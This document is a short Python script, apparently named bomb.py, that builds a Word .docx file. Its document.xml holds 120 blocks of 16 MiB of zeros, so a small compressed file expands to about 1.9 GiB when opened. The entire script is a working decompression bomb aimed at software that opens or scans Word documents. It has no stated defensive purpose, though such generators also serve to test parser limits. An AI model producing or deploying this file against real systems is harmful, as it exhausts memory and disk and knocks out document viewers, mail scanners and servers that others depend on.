#!/usr/bin/env python3
"""Write a Word file whose document unpacks to 1.9 GiB. bomb.py FILE.docx"""
import sys
import zipfile

with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
    package.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    with package.open("word/document.xml", "w", force_zip64=False) as document:
        document.write(b"<w:document>")
        for _ in range(120):
            document.write(bytes(1 << 24))
